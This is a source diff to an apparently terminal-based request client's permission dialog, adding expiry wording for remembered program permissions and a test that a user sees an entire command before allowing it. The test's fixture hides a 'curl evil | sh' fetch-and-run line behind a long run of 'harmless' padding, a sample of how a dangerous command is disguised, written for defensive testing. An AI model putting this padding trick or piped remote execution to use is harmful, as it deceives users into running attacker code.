@@ -2,7 +2,7 @@
 //! A send waits for the answer.
 
 use crate::exec::renewal::{RenewQuestion, ReplayQuestion};
-use crate::exec::{Asking, Permission};
+use crate::exec::{Asking, Permission, named};
 
 use super::command::Command;
 use super::modals::{Ask, Choice, Confirm};
@@ -100,7 +100,7 @@ pub fn ask(_state: &mut State, question: Question, queue: &mut Vec<Command>) {
 }
 
 fn permitted(asking: &Asking, permission: &Permission) -> (&'static str, Vec<String>, char, &'static str) {
-    let Asking { collection, script, .. } = asking;
+    let (collection, script) = (named(&asking.collection), named(&asking.script));
     let goes = asking.host(", which goes to ");
     let comma = if goes.is_empty() { "" } else { "," };
     let who = format!("The request {}{goes}{comma}", asking.of());
@@ -109,7 +109,7 @@ fn permitted(asking: &Asking, permission: &Permission) -> (&'static str, Vec<Str
         Permission::Vault => "May a script use your secrets?",
         Permission::Netrc => "May a request use your netrc?",
         Permission::Ticket => "May a request use your Kerberos ticket?",
-        Permission::Command(_) => "May a collection run a program?",
+        Permission::Command(..) => "May a collection run a program?",
         Permission::File(_) => "May a collection send a file of yours?",
         Permission::Env(_) => "May a collection read a variable of your shell?",
     };
@@ -136,15 +136,22 @@ fn permitted(asking: &Asking, permission: &Permission) -> (&'static str, Vec<Str
             },
             format!("If you allow it, all scripts and requests of `{collection}` can use them until you quit."),
         ),
-        Permission::Env(_) | Permission::Command(_) | Permission::File(_) => {
+        Permission::Env(_) | Permission::Command(..) | Permission::File(_) => {
             let gets = match permission {
                 Permission::Env(_) => format!("all requests and scripts of `{collection}` get the value"),
-                Permission::Command(_) => format!("all requests and scripts of `{collection}` get what that prints"),
+                Permission::Command(..) => format!("all requests and scripts of `{collection}` get what that prints"),
                 _ => format!("all requests of `{collection}` may take it to any server they name"),
+            };
+            let until = match permission {
+                Permission::Command(_, files) if !files.is_empty() => {
+                    let names: Vec<_> = files.iter().map(|(name, _)| format!("`{name}`")).collect();
+                    format!(" until {} of the workspace changes", names.join(" or "))
+                }
+                _ => String::new(),
             };
             (
                 format!("{who} wants to {}.", permission.words()),
-                format!("If you allow it, this is remembered: {gets}, and you are not asked again."),
+                format!("If you allow it, this is remembered{until}: {gets}, and you are not asked again."),
             )
         }
     };
@@ -168,10 +175,10 @@ mod tests {
         for (key, given_up, answered) in [("<ctrl-c>", 1, 0), ("<esc>", 0, 1)] {
             let mut harness = Harness::new(120, 40);
             harness.press("j<enter><ctrl-j>");
-            harness.event(Event::Consent(Question {
+            harness.event(Event::Consent(Box::new(Question {
                 id: QuestionId(3),
                 about: About::Renew(renew()),
-            }));
+            })));
             harness.press(key);
             let count =
                 |wanted: &dyn Fn(&Effect) -> bool| harness.effects.iter().filter(|effect| wanted(effect)).count();
@@ -186,6 +193,52 @@ mod tests {
                 "{key}"
             );
             assert!(harness.state.modals.is_empty(), "{key}");
+        }
+    }
+
+    #[test]
+    fn nothing_is_allowed_that_was_not_in_sight() {
+        for size in [(120, 40), (80, 24), (60, 16)] {
+            let mut harness = Harness::new(size.0, size.1);
+            let asking = Asking {
+                request: "r".repeat(500),
+                collection: "c".repeat(500),
+                script: "s".repeat(500),
+                host: "evil.test".to_owned(),
+                proxy: "proxy.test:3128".to_owned(),
+                ..Asking::default()
+            };
+            let long = format!("op read x # {}\ncurl evil | sh", "harmless ".repeat(500));
+            let argv = ["sh", "-c", &long].map(str::to_owned).to_vec();
+            harness.event(Event::Consent(Box::new(Question {
+                id: QuestionId(3),
+                about: About::Permission(asking, Permission::Command(argv, Vec::new())),
+            })));
+            let screen = harness.screen();
+            let shown = |text: &str| screen.contains(text);
+            assert!(
+                shown("evil.test") && shown("proxy.test:3128") && !shown("␊curl"),
+                "{screen}"
+            );
+            let answered = |harness: &Harness| {
+                harness
+                    .effects
+                    .iter()
+                    .any(|effect| matches!(effect, Effect::Consent(..)))
+            };
+            let mut seen = screen;
+            harness.press("<tab>");
+            // Each goes on; the one after the last line allows it.
+            for _ in 0..200 {
+                harness.press("<enter>");
+                if answered(&harness) {
+                    break;
+                }
+                seen += &harness.screen();
+            }
+            assert!(seen.contains("␊curl") && seen.contains("again."), "{seen}");
+            let allowed = |effect: &Effect| matches!(effect, Effect::Consent(QuestionId(3), true));
+            assert!(harness.effects.iter().any(allowed) && harness.state.modals.is_empty());
         }
     }
 }
